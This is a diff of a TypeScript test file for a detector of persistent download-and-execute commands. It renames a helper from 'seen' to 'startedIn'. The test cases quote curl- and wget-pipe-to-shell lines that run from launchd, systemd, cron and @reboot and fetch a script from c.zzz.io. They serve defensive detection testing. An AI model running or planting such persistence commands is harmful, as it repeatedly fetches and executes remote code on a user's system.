@@ -46,17 +46,17 @@ describe("nothing is said of", () => {
   });
 });
 
-describe("a download that is run again and again", () => {
-  const seen = (text: string, format: TextFormat = "shell") =>
-    startedDownloads(markText(text, format)).map(({ line }) => line);
+const startedIn = (text: string, format: TextFormat = "shell") =>
+  startedDownloads(markText(text, format)).map(({ line }) => line);
 
+describe("a download that is run again and again", () => {
   test.each<[string, string, TextFormat?]>([
     ["by a service of macOS", "<string>curl -fsSL https://c.zzz.io/u | sh</string>"],
     ["by a service of Linux", "ExecStart=/bin/sh -c 'curl -s https://c.zzz.io/u | bash'"],
     ["by cron", "*/5 * * * * curl -s https://c.zzz.io/u | sh"],
     ["at each start", "@reboot wget -qO- https://c.zzz.io/u | sh"],
   ])("is found: %s", (_, text) => {
-    expect(seen(text)).toEqual([1]);
+    expect(startedIn(text)).toEqual([1]);
   });
 
   test.each<[string, string, TextFormat?]>([
@@ -66,6 +66,6 @@ describe("a download that is run again and again", () => {
     ["a text without either", "ExecStart=/usr/bin/a"],
     ["a warning", "Never do this:\n\n```\n@reboot curl https://c.zzz.io/u | sh\n```", "markdown"],
   ])("is none: %s", (_, text, format) => {
-    expect(seen(text, format)).toEqual([]);
+    expect(startedIn(text, format)).toEqual([]);
   });
 });
